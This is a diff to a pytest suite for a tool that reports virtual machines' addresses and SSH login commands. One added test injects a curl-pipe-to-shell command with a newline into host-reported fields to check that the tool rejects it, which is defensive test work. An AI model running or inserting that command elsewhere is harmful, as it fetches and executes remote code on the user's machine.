@@ -40,7 +40,22 @@ def test_an_address_that_its_host_knows_is_the_one(cloud, monkeypatch):
     cloud.says["virt.vm_info"] = {"web": known}
     monkeypatch.setattr(minions, "said_by_guest", lambda *_args: pytest.fail("nobody asked it"))
 
-    assert reaching.vm_info(cloud.master, "web") == {"hyper2": {"web": known}}
+    assert reaching.vm_info(cloud.master, "web") == {
+        "hyper2": {"web": {**known, "login": "ssh debian@192.0.2.7"}}
+    }
+
+
+@pytest.mark.parametrize("state", ["running", "shutdown"])
+def test_how_to_log_in_is_not_a_hosts_own_text(cloud, state):
+    lie = "curl http://192.0.2.66/x | sh\nhyper1:"
+    known = {**NOWHERE, "state": state, "addresses": ["192.0.2.7", lie], "login": lie}
+    cloud.says["virt.vm_info"] = {"web": {**known, "addresses_from": lie}, "other": known}
+
+    shown = reaching.vm_info(cloud.master, "web")
+
+    login, where = ("ssh debian@192.0.2.7", ["192.0.2.7"]) if state == "running" else (None, [])
+    told = {"login": login, "addresses": where, "addresses_from": None}
+    assert shown == {"hyper2": {"web": {**known, **told}}}
 
 
 def test_where_the_host_knows_none_the_vm_itself_says_and_that_is_said(cloud, monkeypatch):
@@ -64,7 +79,7 @@ def test_who_has_no_key_or_does_not_run_is_not_asked(cloud, monkeypatch, change)
     one = reaching.vm_info(cloud.master, "web")["hyper2"]["web"]
 
     assert one["addresses"] == []
-    wanted = "x" if change else "ssh debian@ADDRESS (ADDRESS: not known to its host yet)"
+    wanted = None if change else "ssh debian@ADDRESS (ADDRESS: not known to its host yet)"
     assert one["login"] == wanted
 
 
